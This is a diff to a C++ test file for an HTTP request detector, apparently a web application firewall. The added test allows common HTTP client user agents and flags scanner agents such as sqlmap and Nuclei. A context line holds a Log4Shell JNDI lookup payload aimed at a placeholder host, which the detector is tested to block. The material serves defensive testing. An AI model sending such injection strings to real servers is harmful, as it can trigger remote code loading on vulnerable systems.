@@ -162,6 +162,24 @@ TEST(Detectors, ScannerUserAgentIsBlocked) {
   EXPECT_TRUE(HasCategory(v, Category::kScanner));
 }
 
+// HTTP client libraries and platform agents are customers' integrations, not scanners.
+TEST(Detectors, ClientLibraryUserAgentsAreAllowed) {
+  for (const char* ua : {"python-httpx/0.25.0", "python-requests/2.31.0", "curl/8.4.0",
+                         "Go-http-client/2.0", "okhttp/4.12.0", "PostmanRuntime/7.36.0",
+                         "kube-probe/1.28", "Apache-HttpClient/4.5.14 (Java/17.0.9)"}) {
+    OwnedHttpRequest r = testing::Get("/api/v1/items?page=2");
+    r.headers[1].second = ua;
+    Verdict v = Inspect(r);
+    EXPECT_FALSE(Flagged(v)) << ua << " -> " << v.explanation;
+  }
+  for (const char* ua :
+       {"httpx", "Mozilla/5.0 httpx", "sqlmap/1.7.4#stable", "Nuclei - Open-source"}) {
+    OwnedHttpRequest r = testing::Get("/");
+    r.headers[1].second = ua;
+    EXPECT_TRUE(HasCategory(Inspect(r), Category::kScanner)) << ua;
+  }
+}
+
 TEST(Detectors, Log4ShellInAnyHeaderIsBlocked) {
   OwnedHttpRequest r = testing::Get("/");
   r.headers.emplace_back("Accept-Language", "${jndi:ldap://x.example/a}");
